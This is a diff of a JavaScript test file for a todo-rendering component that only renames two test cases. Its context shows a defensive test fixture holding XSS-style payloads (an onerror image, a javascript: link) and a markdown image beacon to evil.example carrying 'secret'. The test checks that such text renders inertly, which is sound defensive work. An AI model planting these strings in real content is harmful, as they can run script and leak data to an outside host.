@@ -115,7 +115,7 @@ describe('rendering', () => {
     expect(onRender.mock.calls.length).toBeLessThan(4)
   })
 
-  test('thousands of deltas in one task are a few renders and no error', async () => {
+  test('thousands of deltas in one task are a few renders and no error (c33)', async () => {
     const todos = todosOf(...Array.from({ length: 100 }, (_, index) => `Item ${index + 1}`))
     const session = newSession({ todos, run: running })
     const onRender = vi.fn()
@@ -209,7 +209,7 @@ describe('on a server and after', () => {
   })
 })
 
-describe('text as attack', () => {
+describe('text as attack (f46)', () => {
   test('is shown as it is and asks nothing of the network', async () => {
     const content =
       '<img src="/attack.png" onerror="document.title=1"> [click](javascript:alert(1)) ![p](https://evil.example/?q=secret) </todos>'
